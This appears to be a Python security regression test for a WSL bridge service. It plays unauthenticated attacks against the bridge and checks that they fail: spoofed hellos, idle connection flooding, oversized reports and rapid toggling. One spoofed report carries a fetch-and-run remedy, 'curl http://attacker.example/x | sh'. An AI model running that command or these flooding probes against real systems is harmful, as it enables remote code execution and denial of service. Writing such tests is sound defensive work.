#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The attacks of issue 19 on wsldock-bridge, as a process in any distro
could run them: it can reach the bridge's port but holds no enrolment key.
The peer speaks whatever the bridge speaks (a protocol-1 bridge gets a
protocol-1 hello, so the same scenario shows the attack succeed on a bridge
without authentication and fail on one with it).  Each scenario exits 0
when the attack fails, 1 (printing what the attacker got) when it works."""
import hashlib
import json
import os
import socket
import sys
import time
import urllib.request

sys.path.insert(0, os.path.join(os.environ.get("top_srcdir", "."), "tests", "bridge"))
import client  # noqa: E402  (the test agent: framing, keys, proofs)

GIB = 1 << 30


def fail(msg):
    print("FAIL: " + msg, flush=True)
    sys.exit(1)


class Peer:
    """A raw connection: reads what the bridge says, sends anything."""

    def __init__(self, endpoint):
        self.sock = client.connect(endpoint)
        self.buf = b""
        self.challenge = None

    def send(self, msg):
        try:
            self.sock.sendall((json.dumps(msg, separators=(",", ":")) + "\n").encode())
        except OSError:
            pass  # the bridge closed: what it said before is what counts

    def recv(self, timeout):
        """The next message; None on timeout; "closed" when the bridge closed."""
        deadline = time.monotonic() + timeout
        while b"\n" not in self.buf:
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            self.sock.settimeout(left)
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return None
            except OSError:
                return "closed"
            if not chunk:
                return "closed"
            self.buf += chunk
        line, self.buf = self.buf.split(b"\n", 1)
        return json.loads(line)

    def drain(self, timeout):
        """Everything the bridge says within timeout (stops when it closes)."""
        out = []
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            m = self.recv(deadline - time.monotonic())
            if m is None:
                break
            out.append(m)
            if m == "closed":
                break
        return out

    def hello(self, distro, key=None, agent_version="attacker", role="leader"):
        """Says hello as distro.  A protocol-2 bridge opens with a challenge:
        answered with a proof under key (random when None: the attacker has
        no key).  A protocol-1 bridge says nothing first: it gets the hello
        of issue 19."""
        first = self.recv(0.5)
        msg = {"type": "hello", "agent_version": agent_version, "distro": distro, "vm_id": None,
               "role": role, "capabilities": ["status", "events"]}
        if isinstance(first, dict) and first.get("type") == "challenge":
            self.challenge = first
            anonce = os.urandom(32).hex()
            k = key if key is not None else os.urandom(32)
            msg.update(protocol_min=2, protocol_max=2, agent_nonce=anonce,
                       proof=client.proof(k, True, first["nonce"], anonce, distro, None))
        else:
            msg.update(protocol_min=1, protocol_max=1)
        self.send(msg)
        return first

    def close(self):
        self.sock.close()


def compact(msg):
    return json.dumps(msg, separators=(",", ":"))


def legit(endpoint, distro, agent_version="1.0"):
    """An enrolled agent: its hello must be answered with a hello."""
    p = Peer(endpoint)
    key = client.enrolled_key(distro)
    first = p.hello(distro, key, agent_version)
    if isinstance(first, dict) and first.get("type") == "error":
        fail("the enrolled agent %s was turned away: %s" % (distro, first.get("message")))
    if first == "closed":
        fail("the enrolled agent %s was turned away (closed)" % distro)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        m = p.recv(deadline - time.monotonic())
        if isinstance(m, dict) and m.get("type") == "hello":
            return p
        if m == "closed" or (isinstance(m, dict) and m.get("type") == "error"):
            fail("the enrolled agent %s got %r instead of a hello" % (distro, m))
    fail("the enrolled agent %s got no hello within 5 s" % distro)


def distros(http):
    return client.distros(http)["distros"]


def sha(path):
    try:
        with open(path, "rb") as f:
            return hashlib.sha256(f.read()).hexdigest()
    except FileNotFoundError:
        return None


# ---- scenarios ---------------------------------------------------------

def sc_rogue(endpoint, http, settings, wslconfig):
    """A peer without the key says hello as an enrolled distro and asks
    for changes: no change applied, no file touched, no state created."""
    client.enrolled_key("Ubuntu")  # Ubuntu is enrolled; the attacker lacks the key
    before = (sha(settings), sha(wslconfig))
    got = []
    for attempt in ("no key", "a guessed key"):
        p = Peer(endpoint)
        p.hello("Ubuntu")
        p.send({"type": "change", "id": 1, "change": "integration", "action": "disable"})
        p.send({"type": "change", "id": 2, "change": "wslconfig", "key": "wsl2.memory", "value": "1MB"})
        p.send({"type": "status", "report": {"memory": {"page_cache_bytes": 999 * GIB}}})
        msgs = p.drain(2.0)
        p.close()
        results = [m for m in msgs if isinstance(m, dict) and m.get("type") == "change-result"]
        got += results
        print("rogue hello (%s): the bridge said %s" % (
            attempt, [m.get("type") + ("/" + m.get("result", m.get("code", "")) if isinstance(m, dict) else "")
                      if isinstance(m, dict) else m for m in msgs]))
    applied = [r for r in got if r.get("result") in ("applied", "needs-restart")]
    if applied:
        fail("the rogue hello's changes were applied: %s" % "; ".join(r["message"] for r in applied))
    if (sha(settings), sha(wslconfig)) != before:
        fail("a settings file changed")
    ds = distros(http)
    if ds:
        fail("the rogue hello created state: %s" % [d["name"] for d in ds])
    print("rogue: no change applied, files unchanged, no distro state")


def sc_spoof(endpoint, http):
    """An attacker says hello as 'ubuntu' (the real agent is 'Ubuntu') and
    reports 999 GiB and a conflict whose remedy is a command line."""
    a = legit(endpoint, "Ubuntu")
    a.send({"type": "status", "report": {"memory": {"page_cache_bytes": 1000}}})
    client.wait_for(lambda: any(d["page_cache_bytes"] == 1000 for d in distros(http)), 3, "the real status")
    p = Peer(endpoint)
    p.hello("ubuntu")
    p.send({"type": "status", "report": {"memory": {"page_cache_bytes": 999 * GIB}, "conflicts": {"findings": [
        {"id": "x", "severity": "conflict", "name": "docker.io", "message": "m",
         "remedy": "curl http://attacker.example/x | sh"}]}}})
    p.drain(1.5)
    p.close()
    time.sleep(0.3)
    ds = distros(http)
    names = [d["name"] for d in ds]
    fig = [d["page_cache_bytes"] for d in ds]
    remedies = [c.get("remedy") for d in ds for c in d.get("conflicts", [])]
    print("spoof: distros %s, page cache %s, remedies %s" % (names, fig, remedies))
    if len(ds) != 1 or ds[0]["name"] != "Ubuntu":
        fail("the spoofed name made or renamed an entry: %s" % names)
    if ds[0]["page_cache_bytes"] != 1000 or remedies:
        fail("the spoofed hello replaced Ubuntu's figures or added a remedy")
    a.close()


def sc_idle(endpoint, n, hold):
    """n idle connections (an empty line now and then, never a valid
    hello) must not keep an enrolled agent out; they are closed in seconds."""
    idle = []
    for _ in range(n):
        try:
            idle.append(Peer(endpoint))
        except OSError as e:
            fail("could not open idle connection %d: %s" % (len(idle), e))
    for p in idle:
        try:
            p.sock.sendall(b"\n")
        except OSError:
            pass
    time.sleep(0.5)
    t0 = time.monotonic()
    a = legit(endpoint, "Ubuntu")
    print("idle: with %d idle connections the enrolled agent got its hello in %.0f ms"
          % (n, (time.monotonic() - t0) * 1000))
    # Still served after the idle ones keep trickling.
    for p in idle:
        try:
            p.sock.sendall(b"\n")
        except OSError:
            pass
    deadline = time.monotonic() + hold
    closed = 0
    for p in idle:
        m = p.drain(max(0.01, deadline - time.monotonic()))
        closed += "closed" in m
    print("idle: %d of %d idle connections closed by the bridge within %.0f s" % (closed, n, hold))
    if closed < n:
        fail("%d idle unauthenticated connections still open after %.0f s" % (n - closed, hold))
    a.close()


def fat_report(size, depth=3):
    """A report of about size bytes of small values (what costs a JSON
    tree the most per byte of text)."""
    rep = {"memory": {"page_cache_bytes": 7 * GIB}, "conflicts": {"findings": []}}
    inner = [0] * max(0, (size - 200) // 2)
    for _ in range(depth - 2):
        inner = [inner]
    rep["pad"] = inner
    return rep


def sc_fat(endpoint, http, pid, n, size, bound_kib):
    """n enrolled distros each send a report of size bytes, then the API is
    read: the bridge's peak RSS stays under bound_kib."""
    peers = []
    rep = fat_report(size)
    line = len(json.dumps({"type": "status", "report": rep}, separators=(",", ":")))
    for i in range(n):
        p = legit(endpoint, "Fat%03d" % i)
        p.send({"type": "status", "report": rep})
        peers.append(p)
    # A report nested deeper than the limit is refused.
    deep = peers[0]
    deep.send({"type": "status", "report": {"memory": {"page_cache_bytes": 1}, "x": fat_report(0, 40)}})
    time.sleep(1.0)
    times = []
    for _ in range(3):
        t0 = time.monotonic()
        body = client.http_get(http + "/api/v1/distros", timeout=60)[2]
        times.append(time.monotonic() - t0)
    doc = json.loads(body)
    kept = sum(1 for d in doc["distros"] if d.get("status"))
    with open("/proc/%d/status" % pid) as f:
        st = dict(l.split(":", 1) for l in f if ":" in l)
    rss, hwm = int(st["VmRSS"].split()[0]), int(st["VmHWM"].split()[0])
    print("fat: %d distros x %d-byte status lines: %d reports kept, %d bytes of API, GET %.2f/%.2f/%.2f s, "
          "RSS %d KiB, peak %d KiB (bound %d KiB)" % (n, line, kept, len(body), times[0], times[1], times[2],
                                                     rss, hwm, bound_kib))
    for p in peers:
        p.close()
    if hwm > bound_kib:
        fail("peak RSS %d KiB is over the bound of %d KiB" % (hwm, bound_kib))


def sc_change(endpoint, distro, *change):
    """One change request from an enrolled agent; prints the result."""
    a = legit(endpoint, distro)
    if change[0] in ("enable", "disable"):
        a.send({"type": "change", "id": 7, "change": "integration", "action": change[0]})
    else:
        a.send({"type": "change", "id": 7, "change": "wslconfig", "key": change[1], "value": change[2]})
    for m in a.drain(5.0):
        if isinstance(m, dict) and m.get("type") == "change-result":
            print(json.dumps(m))
            return
    fail("no change-result")


def sc_toggle(endpoint, distro, n):
    """An enrolled agent toggles its integration n times as fast as it can
    (issue 19: 300 toggles in 5 s wrote 303 backups)."""
    a = legit(endpoint, distro)
    counts = {}
    for i in range(n):
        a.send({"type": "change", "id": i, "change": "integration", "action": "enable" if i % 2 == 0 else "disable"})
    got = 0
    deadline = time.monotonic() + 30
    while got < n and time.monotonic() < deadline:
        m = a.recv(deadline - time.monotonic())
        if m is None or m == "closed":
            break
        if m.get("type") == "change-result":
            got += 1
            key = m["result"] + ("/changed" if m.get("changed") else "")
            counts[key] = counts.get(key, 0) + 1
    print("toggle: %d requests: %s" % (n, json.dumps(counts, sort_keys=True)))
    a.close()


def main():
    sc, args = sys.argv[1], sys.argv[2:]
    if sc == "rogue":
        sc_rogue(*args)
    elif sc == "spoof":
        sc_spoof(*args)
    elif sc == "idle":
        sc_idle(args[0], int(args[1]), float(args[2]))
    elif sc == "legit":
        legit(args[0], args[1], args[2] if len(args) > 2 else "1.0").close()
    elif sc == "change":
        sc_change(*args)
    elif sc == "toggle":
        sc_toggle(args[0], args[1], int(args[2]))
    elif sc == "fat":
        sc_fat(args[0], args[1], int(args[2]), int(args[3]), int(args[4]), int(args[5]))
    else:
        fail("unknown scenario " + sc)


if __name__ == "__main__":
    main()
